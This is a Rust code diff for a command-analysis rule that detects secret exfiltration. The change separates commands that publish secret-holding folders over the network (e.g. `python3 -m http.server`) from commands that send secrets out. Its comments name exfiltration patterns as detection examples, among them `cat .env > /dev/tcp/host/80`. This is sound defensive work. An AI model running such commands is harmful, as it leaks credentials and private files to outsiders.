@@ -59,16 +59,21 @@ pub static SECRET_EXFILTRATION: Rule = Rule {
 fn check_all(analysis: &Analysis, context: &Context, report: &mut Report) {
     for (id, command) in analysis.commands.iter().enumerate() {
         report.command = Some(id);
-        let found = leak(command, context);
-        if let Some((what, span)) = found {
-            report.flag(
-                &SECRET_EXFILTRATION,
-                span,
-                format!(
-                    "`{}` would send {what} over the network: whoever receives it can use it",
-                    shown_name(command)
-                ),
-            );
+        let name = shown_name(command);
+        let found = match published(command, context) {
+            Some(what) => Some((
+                format!("`{name}` would publish {what}: anyone who connects can read it and use it"),
+                command.span,
+            )),
+            None => leak(command, context).map(|(what, span)| {
+                (
+                    format!("`{name}` would send {what} over the network: whoever receives it can use it"),
+                    span,
+                )
+            }),
+        };
+        if let Some((lost, span)) = found {
+            report.flag(&SECRET_EXFILTRATION, span, lost);
         }
     }
     report.command = None;
@@ -89,6 +94,15 @@ pub fn sends(name: &str) -> bool {
     Sender::PROGRAMS.contains(&name)
 }
 
+/// The secrets in the folders and files a command publishes on the network (`busybox httpd -h
+/// DIR`, `python3 -m http.server` in the home folder).
+fn published(command: &Command, context: &Context) -> Option<String> {
+    command
+        .serves
+        .iter()
+        .find_map(|word| served_secret(word, command, context))
+}
+
 /// The secret a command sends over the network, and where the command says so.
 fn leak(command: &Command, context: &Context) -> Option<(String, crate::source::Span)> {
     // Written to a network socket: `cat .env > /dev/tcp/host/80`.
@@ -101,17 +115,10 @@ fn leak(command: &Command, context: &Context) -> Option<(String, crate::source::
             return Some((what.clone(), redirect.span));
         }
     }
-    // Files and folders the registry says the program sends or publishes (`ab -p FILE`,
-    // `busybox httpd -h DIR`), and arguments it sends as text (`finger TEXT@host`).
+    // Files and folders the registry says the program sends (`ab -p FILE`), and arguments it
+    // sends as text (`finger TEXT@host`).
     if let Some(what) = command
         .sends
-        .iter()
-        .find_map(|word| served_secret(word, command, context))
-    {
-        return Some((what, command.span));
-    }
-    if let Some(what) = command
-        .serves
         .iter()
         .find_map(|word| served_secret(word, command, context))
     {
